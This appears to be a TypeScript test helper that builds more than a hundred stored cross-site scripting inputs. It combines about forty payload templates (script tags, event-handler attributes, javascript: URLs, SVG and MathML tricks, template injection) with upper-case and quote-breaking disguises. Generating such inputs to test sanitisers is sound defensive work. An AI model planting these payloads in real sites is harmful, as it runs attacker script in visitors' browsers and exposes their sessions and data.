/** How markup may try to run a script; `RUN` stands for the script. */
const ATTEMPTS = [
  '<script>RUN</script>',
  '"><script>RUN</script>',
  '</title><script>RUN</script>',
  '</textarea><script>RUN</script>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<script src="data:text/javascript,RUN"></script>',
  '<img src=x onerror="RUN">',
  "<img src='x' onerror='RUN'>",
  '"><img src=x onerror=RUN>',
  '<img/src=x/onerror=RUN>',
  '<svg onload="RUN">',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin="RUN" attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:RUN"><text>click</text></a></svg>',
  '<math><mtext><mglyph><style><!--</style><img title="--><img src=x onerror=RUN>"></math>',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe src="javascript:parent.RUN"></iframe>',
  '<object data="javascript:RUN"></object>',
  '<embed src="javascript:RUN">',
  '<a href="javascript:RUN">link</a>',
  '[link](javascript:RUN)',
  '![picture](x"onerror="RUN)',
  '<javascript:RUN>',
  '<details open ontoggle="RUN"><summary>more</summary></details>',
  '<input autofocus onfocus="RUN">',
  '<select autofocus onfocus="RUN"></select>',
  '<video><source onerror="RUN"></video>',
  '<audio src=x onerror="RUN"></audio>',
  '<body onload="RUN">',
  '<marquee onstart="RUN">text</marquee>',
  '<form><button autofocus formaction="javascript:RUN">send</button></form>',
  '<base href="javascript:RUN//">',
  '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
  '<link rel=stylesheet href="javascript:RUN">',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="RUN">text</b>',
  '<template><script>RUN</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '{{constructor.constructor("RUN")()}}',
  `$\{RUN}`,
  "';RUN;//",
  '`;RUN;//',
  '\\x3cscript\\x3eRUN\\x3c/script\\x3e',
  '&lt;script&gt;RUN&lt;/script&gt;',
] as const

/** The same attempts in capitals, behind text, and beside what ends a quotation. */
const DISGUISES: readonly ((attempt: string) => string)[] = [
  (attempt) => attempt,
  (attempt) => attempt.replace(/<(\/?)(\w+)/g, (_, slash, name) => `<${slash}${name.toUpperCase()}`),
  (attempt) => `My bill is wrong '"> ${attempt} <!-- what now?`,
]

/** At least a hundred texts that run a script where a page takes them for markup. @param script runs where one works */
export function storedScripts(script: string): readonly string[] {
  return DISGUISES.flatMap((disguise) =>
    ATTEMPTS.map((attempt) => disguise(attempt.replaceAll('RUN', script))),
  )
}
